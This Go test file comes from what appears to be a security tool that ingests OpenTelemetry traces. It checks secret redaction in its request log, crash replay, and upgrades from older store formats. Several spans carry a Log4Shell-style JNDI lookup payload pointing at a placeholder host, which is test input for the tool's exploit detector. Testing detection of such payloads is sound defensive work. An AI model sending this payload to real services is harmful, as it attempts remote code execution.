package engine

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/klauspost/compress/s2"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"
	"go.opentelemetry.io/collector/pdata/ptrace"

	"github.com/evidentsec/evident/internal/detect"
	"github.com/evidentsec/evident/internal/findings"
	"github.com/evidentsec/evident/internal/model"
	"github.com/evidentsec/evident/internal/store"
	"github.com/evidentsec/evident/internal/store/sqlite"
	"github.com/evidentsec/evident/internal/telemetry"
)

// consumeReceived hands req to the engine as a receiver does: the spans
// decoded from it, with the request as received in the context.
func consumeReceived(t testing.TB, e *Engine, req []byte) {
	t.Helper()
	spans, texts, err := telemetry.DecodeReceivedTraceRequest(nil, nil, req, "test", func(int) error { return nil })
	if err != nil {
		t.Fatal(err)
	}
	ctx := telemetry.WithReceived(context.Background(), req, texts, spans)
	if err := e.TracesConsumer().Consume(ctx, spans); err != nil {
		t.Fatal(err)
	}
}

// requestOf is spans as an OTLP trace request.
func requestOf(t testing.TB, spans []telemetry.Span) []byte {
	t.Helper()
	b, err := telemetry.AppendTraceRequest(nil, spans)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// uncompressed is the payload of a logged batch, uncompressed.
func uncompressed(t testing.TB, b memBatch) []byte {
	t.Helper()
	b = b.inner(t)
	if b.kind != store.BatchTraceRequestS2 {
		return b.payload
	}
	p, err := s2.Decode(nil, b.payload)
	if err != nil {
		t.Fatalf("logged batch %d: %v", b.seq, err)
	}
	return p
}

// instrumented is a request as an SDK sends it, with resource, scope and
// span attributes evident does not decode, an event and a link; note is
// put in an attribute evident does not decode and in the event's message,
// and secret, when set, in an attribute named like a credential.
func instrumented(t testing.TB, note, secret string) []byte {
	t.Helper()
	td := ptrace.NewTraces()
	rs := td.ResourceSpans().AppendEmpty()
	rs.Resource().Attributes().PutStr("service.name", "gateway")
	rs.Resource().Attributes().PutStr("telemetry.sdk.language", "go")
	ss := rs.ScopeSpans().AppendEmpty()
	ss.Scope().SetName("go.opentelemetry.io/contrib/instrumentation/net/http/otelhttp")
	sp := ss.Spans().AppendEmpty()
	sp.SetTraceID([16]byte{15: 1})
	sp.SetSpanID([8]byte{7: 1})
	sp.SetName("GET /orders/{id}")
	sp.SetKind(ptrace.SpanKindServer)
	a := sp.Attributes()
	a.PutStr("http.request.method", "GET")
	a.PutStr("http.route", "/orders/{id}")
	a.PutStr("url.path", "/orders/7")
	a.PutStr("url.query", "q=${jndi:ldap://x.example/a}")
	a.PutStr("network.protocol.version", "1.1")
	a.PutStr("app.note", note)
	if secret != "" {
		a.PutStr("app.session_token", secret)
		a.PutStr("url.query", "access_token="+secret+"&q=${jndi:ldap://x.example/a}")
	}
	ev := sp.Events().AppendEmpty()
	ev.SetName("exception")
	ev.Attributes().PutStr("exception.message", "lookup failed: "+note)
	ln := sp.Links().AppendEmpty()
	ln.SetTraceID([16]byte{15: 2})
	ln.SetSpanID([8]byte{7: 2})
	b, err := (&ptrace.ProtoMarshaler{}).MarshalTraces(td)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestLogReceived: a request with nothing to mask is logged byte for byte
// as received; one with secrets, in attributes evident decodes or not and
// in events, is logged without them, and applied as the log replays it.
// The exploit rules see the request as received either way.
func TestLogReceived(t *testing.T) {
	for _, tc := range []struct {
		name, note, secret string
		redacted           bool
	}{
		{name: "nothing to mask", note: "cache miss"},
		{name: "secrets", note: "mail alice@example.com card 4111 1111 1111 1111", secret: "hunter2", redacted: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			st := &memStore{}
			rec := &recorder{}
			reg := prometheus.NewRegistry()
			e := newEngine(t, testConfig(), st, rec, reg)
			start(t, e)
			req := instrumented(t, tc.note, tc.secret)
			consumeReceived(t, e, req)
			eventually(t, "the exploit alert", func() bool { return len(rec.of(detect.KindExploitPayload)) > 0 })
			st.mu.Lock()
			logged := st.batches[0].inner(t)
			st.mu.Unlock()
			if logged.kind != store.BatchTraceRequestS2 {
				t.Errorf("logged as %q, want %q", logged.kind, store.BatchTraceRequestS2)
			}
			logged.payload = uncompressed(t, logged)
			if got := bytes.Equal(logged.payload, req); got == tc.redacted {
				t.Errorf("logged the request as received: %v, want %v", got, !tc.redacted)
			}
			for _, secret := range []string{"hunter2", "alice@example.com", "4111 1111"} {
				if tc.redacted && bytes.Contains(logged.payload, []byte(secret)) {
					t.Errorf("the log holds %q", secret)
				}
			}
			if n := testutil.ToFloat64(e.m.redacted.WithLabelValues("spans")); (n == 1) != tc.redacted {
				t.Errorf("evident_engine_redacted_batches_total{signal=spans} = %v", n)
			}
			// What a crash leaves: the log, no checkpoint.
			st.mu.Lock()
			crashed := &memStore{batches: slices.Clone(st.batches), seq: st.seq}
			st.mu.Unlock()
			if err := e.Shutdown(context.Background()); err != nil {
				t.Fatal(err)
			}
			replayed := newEngine(t, testConfig(), crashed, nil, nil)
			start(t, replayed)
			if diff := cmp.Diff(e.model.Snapshot(), replayed.model.Snapshot()); diff != "" {
				t.Errorf("model replayed from the log (-applied live +replayed):\n%s", diff)
			}
		})
	}
}

// logV1 is testdata/log-v1.json: the store of an engine of the version
// before the log kept requests as received, written by it: a checkpoint
// after shopSpans and a profile of orders, then a batch of spans it
// encoded as an OTLP trace request and one of spans in encoding/gob, as
// the versions before wrote them.
type logV1 struct {
	Checkpoint struct {
		Seq   int64  `json:"seq"`
		State []byte `json:"state"`
	} `json:"checkpoint"`
	Batches []struct {
		Seq     int64           `json:"seq"`
		Kind    store.BatchKind `json:"kind"`
		Payload []byte          `json:"payload"`
	} `json:"batches"`
}

// windowsOfOldCheckpoints compares models without the languages of their
// windows: a checkpoint written before windows kept them restores them as
// none (model.Window.Languages), which counts for every language, and the
// profiles replayed after it continue its windows.
var windowsOfOldCheckpoints = cmpopts.IgnoreFields(model.Window{}, "Languages")

// TestReplayLogV1: the log and checkpoint the previous version wrote
// restore into the model this version builds from the same telemetry
// received as requests.
func TestReplayLogV1(t *testing.T) {
	old := oldLog(t, "log-v1.json", store.BatchTraceRequest, store.BatchSpans)
	restored := newEngine(t, testConfig(), old, nil, nil)
	start(t, restored)

	more := shopSpans()
	for i := range more {
		more[i].SpanID[0], more[i].ParentSpanID[0] = 9, 9
		more[i].Attrs.HTTPRoute += "/v2"
	}
	more[0].ParentSpanID = [8]byte{}
	older := shopSpans()
	for i := range older {
		older[i].SpanID[0], older[i].ParentSpanID[0] = 8, 8
		older[i].Service += "-old"
	}
	older[0].ParentSpanID = [8]byte{}
	live := newEngine(t, testConfig(), &memStore{}, nil, nil)
	start(t, live)
	consumeReceived(t, live, requestOf(t, shopSpans()))
	if err := live.ProfilesConsumer().Consume(context.Background(), []*telemetry.ProfileBatch{textProfile("orders", true)}); err != nil {
		t.Fatal(err)
	}
	consumeReceived(t, live, requestOf(t, more))
	consumeReceived(t, live, requestOf(t, older))
	if err := live.Shutdown(context.Background()); err != nil {
		t.Fatal(err)
	}
	if restored.model.Snapshot().Service("orders-old") == nil {
		t.Fatal("nothing replayed")
	}
	if diff := cmp.Diff(live.model.Snapshot(), restored.model.Snapshot(), windowsOfOldCheckpoints); diff != "" {
		t.Errorf("model restored from the previous version's log (-applied live +restored):\n%s", diff)
	}
}

// oldLog returns a store holding the checkpoint and log of testdata/name,
// written by an earlier version, whose batches are of the kinds want.
func oldLog(t *testing.T, name string, want ...store.BatchKind) *memStore {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	var v logV1
	if err := json.Unmarshal(b, &v); err != nil {
		t.Fatal(err)
	}
	old := &memStore{checkSeq: v.Checkpoint.Seq, checkState: v.Checkpoint.State, seq: v.Checkpoint.Seq}
	var kinds []store.BatchKind
	for _, b := range v.Batches {
		old.batches = append(old.batches, memBatch{b.Seq, b.Kind, b.Payload})
		old.seq = b.Seq
		kinds = append(kinds, b.Kind)
	}
	if diff := cmp.Diff(want, kinds); diff != "" {
		t.Fatalf("the batches of %s (-want +got):\n%s", name, diff)
	}
	return old
}

// TestReplayNewerKind: a batch whose kind this version does not know was
// logged by a newer evident (every appended kind is validated), so Start
// refuses with store.ErrSchemaTooNew, naming the batch and its kind,
// instead of skipping it: the next checkpoint would have dropped that
// acknowledged telemetry for good after a downgrade. A batch of a known
// kind that does not decode is still skipped, so that one damaged batch
// does not stop every later one.
func TestReplayNewerKind(t *testing.T) {
	// profile_request_s2 carries its encoding's version in its first
	// byte: one above this evident's was written by a newer one.
	newerReq := telemetry.AppendProfileRequest(nil, &telemetry.ProfileRequest{Profiles: []telemetry.ReceivedProfile{{
		Format: telemetry.FormatFolded, Data: []byte("main;main.idle 1\n"), Service: "shop",
	}}})
	newerReq[0]++
	for _, tc := range []struct {
		name  string
		batch memBatch // logged as batch 2, between two good ones
		want  string   // in Start's error
	}{
		{"newer kind refused", memBatch{2, "otlp_traces_zstd", []byte("written by a newer evident")}, `logged batch 2 is of kind "otlp_traces_zstd"`},
		{"newer version of a known kind refused", memBatch{2, store.BatchProfileRequestS2, s2.Encode(nil, newerReq)}, "logged batch 2: decode profile_request_s2 batch: profile request: version 2"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			st := &memStore{seq: 3, batches: []memBatch{
				{1, store.BatchTraceRequest, requestOf(t, shopSpans())},
				tc.batch,
				{3, store.BatchTraceRequest, requestOf(t, shopSpans())},
			}}
			e := newEngine(t, testConfig(), st, nil, nil)
			err := e.Start(context.Background())
			if !errors.Is(err, store.ErrSchemaTooNew) || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), store.TooNewHint) {
				t.Errorf("Start = %v, want ErrSchemaTooNew with %q and what to do", err, tc.want)
			}
			if err := e.Shutdown(context.Background()); err != nil {
				t.Error(err)
			}
			if st.checkSeq != 0 || len(st.batches) != 3 {
				t.Errorf("after the refused start: checkpoint at %d, %d batches; want none and the 3 logged", st.checkSeq, len(st.batches))
			}
		})
	}
	t.Run("known kind that does not decode skipped", func(t *testing.T) {
		st := &memStore{seq: 2, batches: []memBatch{
			{1, store.BatchSpans, []byte("not gob")},
			{2, store.BatchTraceRequest, requestOf(t, shopSpans())},
		}}
		e := newEngine(t, testConfig(), st, nil, nil)
		start(t, e)
		if e.model.Snapshot().Service("orders") == nil {
			t.Error("the batch after the damaged one was not replayed")
		}
	})
}

// TestReplayFirstRelease: testdata/store-6ed2aaf is a store the first
// version with a telemetry log wrote and was killed over (its README):
// schema version 3, a version 1 checkpoint, and after it batches of
// spans and profiles in encoding/gob in SQLite's batches table. This
// version migrates it, restores the checkpoint and replays the batches
// into what that version served, and keeps its alert and findings.
func TestReplayFirstRelease(t *testing.T) {
	old, err := os.ReadFile(filepath.Join("testdata", "store-6ed2aaf", "evident.db"))
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "evident.db"), old, 0o600); err != nil {
		t.Fatal(err)
	}
	st, err := sqlite.Open(t.Context(), dir, sqlite.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	var kinds []store.BatchKind
	if err := st.Batches(t.Context(), 0, func(_ int64, kind store.BatchKind, _ []byte) error {
		kinds = append(kinds, kind)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]store.BatchKind{store.BatchSpans, store.BatchSpans, store.BatchProfiles}, kinds); diff != "" {
		t.Fatalf("logged kinds after the checkpoint (-want +got):\n%s", diff)
	}
	e := newEngine(t, testConfig(), st, nil, nil)
	start(t, e)
	type served struct{ samples, calls int64 }
	got := map[string]served{}
	for _, s := range e.model.Snapshot().Services {
		var calls int64
		for _, ep := range s.Endpoints {
			calls += ep.Calls
		}
		got[s.Name] = served{s.Samples, calls}
	}
	want := map[string]served{"catalog": {0, 5}, "gateway": {0, 8}, "orders": {59, 4}, "reporter": {140, 0}}
	if diff := cmp.Diff(want, got, cmp.AllowUnexported(served{})); diff != "" {
		t.Errorf("samples and endpoint calls restored (-served by 6ed2aaf +restored):\n%s", diff)
	}
	if as, err := st.Alerts(t.Context(), store.AlertQuery{}); err != nil || len(as) != 1 || as[0].ID != "bbf4b5567edafa84" {
		t.Errorf("alerts after the upgrade = %v, %v; want the first_execution alert bbf4b5567edafa84", as, err)
	}
	if fs, err := st.Findings(t.Context()); err != nil || len(fs) != 34 {
		t.Errorf("findings after the upgrade: %d, %v; want the 34 stored", len(fs), err)
	}
}

// TestEncodeRefusesWhatReplayWouldSkip: a request larger than replay
// reads back (decompress) is refused before it is logged, so never
// acknowledged and then skipped after a restart. The request's pages are
// never written, so the test holds no 256 MiB.
func TestEncodeRefusesWhatReplayWouldSkip(t *testing.T) {
	it := item{kind: store.BatchSpans, logged: make([]byte, maxLoggedRequest+1)}
	_, payload, err := encode(&it, nil)
	if !errors.Is(err, telemetry.ErrTooLarge) || payload != nil ||
		!strings.Contains(err.Error(), "a request of 268435457 bytes, over the 268435456 a logged request may take") {
		t.Fatalf("encode: %d bytes, %v; want none and ErrTooLarge naming both sizes", len(payload), err)
	}
}

// TestReplayKeepsReceiptTime: a batch replayed from the log after a crash
// is the telemetry received before it, so the alerts it raises again say
// when that was (received_at, and the latency from it), not when the
// restart replayed it, whichever way the batch was logged.
func TestReplayKeepsReceiptTime(t *testing.T) {
	exploit := shopSpans()
	exploit[0].Attrs.UserAgent = "${jndi:ldap://x.example/a}"
	for _, tc := range []struct {
		name    string
		consume func(*Engine)
		kind    detect.Kind
	}{
		{"trace request", func(e *Engine) { consumeReceived(t, e, requestOf(t, exploit)) }, detect.KindExploitPayload},
		{"spans without their request", func(e *Engine) {
			if err := e.TracesConsumer().Consume(context.Background(), exploit); err != nil {
				t.Fatal(err)
			}
		}, detect.KindExploitPayload},
		{"profile request", func(e *Engine) {
			consumeReceivedProfiles(t, e, ingested(pprofOf(t, textProfile("", true), nil), "shop"))
		}, detect.KindFirstExecution},
		{"profiles without their request", func(e *Engine) {
			if err := e.ProfilesConsumer().Consume(context.Background(), []*telemetry.ProfileBatch{textProfile("shop", true)}); err != nil {
				t.Fatal(err)
			}
		}, detect.KindFirstExecution},
	} {
		t.Run(tc.name, func(t *testing.T) {
			received := t0.Add(time.Minute)
			st := &memStore{findings: []findings.Finding{textFinding("shop")}}
			live := newEngine(t, testConfig(), st, &recorder{}, nil)
			live.now = func() time.Time { return received }
			start(t, live)
			tc.consume(live)
			// What a crash leaves: the log, no checkpoint.
			st.mu.Lock()
			crashed := &memStore{batches: slices.Clone(st.batches), seq: st.seq, findings: st.findings}
			st.mu.Unlock()

			rec := &recorder{}
			replayed := newEngine(t, testConfig(), crashed, rec, nil)
			restarted := received.Add(time.Hour)
			replayed.now = func() time.Time { return restarted }
			start(t, replayed)
			as := rec.of(tc.kind)
			if len(as) == 0 {
				t.Fatalf("no %s alert on replay", tc.kind)
			}
			for _, a := range as {
				if !a.ReceivedAt.Equal(received) || !a.Time.Equal(restarted) {
					t.Errorf("replayed %s alert received at %v, fired at %v; want received at %v, fired at %v", a.Kind, a.ReceivedAt, a.Time, received, restarted)
				}
			}
		})
	}
}

// TestReplayLogBeforeReceiptTime: testdata/store-e12cac8 is a store the
// last version whose log did not keep the receipt time wrote and was
// killed over (its README): trace and profile requests in a segment, no
// checkpoint. This version replays it, dating what it raises again by the
// replay, as that version did, and logs what comes after with its time.
func TestReplayLogBeforeReceiptTime(t *testing.T) {
	dir := t.TempDir()
	for _, name := range []string{"evident.db", "log-00000000000000000001.seg"} {
		b, err := os.ReadFile(filepath.Join("testdata", "store-e12cac8", name))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	st, err := sqlite.Open(t.Context(), dir, sqlite.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	kinds := func() []store.BatchKind {
		var kinds []store.BatchKind
		if err := st.Batches(t.Context(), 0, func(_ int64, kind store.BatchKind, _ []byte) error {
			kinds = append(kinds, kind)
			return nil
		}); err != nil {
			t.Fatal(err)
		}
		return kinds
	}
	old := []store.BatchKind{store.BatchTraceRequestS2, store.BatchTraceRequestS2, store.BatchTraceRequestS2, store.BatchProfileRequestS2}
	if diff := cmp.Diff(old, kinds()); diff != "" {
		t.Fatalf("logged kinds (-want +got):\n%s", diff)
	}
	rec := &recorder{}
	e := newEngine(t, testConfig(), noCheckpoint{st}, rec, nil)
	restarted := time.Date(2026, 12, 8, 9, 0, 0, 0, time.UTC)
	e.now = func() time.Time { return restarted }
	start(t, e)
	snap := e.model.Snapshot()
	for _, svc := range []string{"orders", "reporter"} {
		if snap.Service(svc) == nil {
			t.Errorf("service %s not replayed", svc)
		}
	}
	as := rec.of(detect.KindFirstExecution)
	if len(as) != 1 || as[0].Service != "reporter" || !as[0].ReceivedAt.Equal(restarted) {
		t.Errorf("first executions replayed: %+v; want reporter's, received at the replay (%v)", as, restarted)
	}
	if err := e.TracesConsumer().Consume(t.Context(), shopSpans()); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(append(old, store.BatchReceivedAt), kinds()); diff != "" {
		t.Errorf("logged kinds after a new batch (-want +got):\n%s", diff)
	}
}
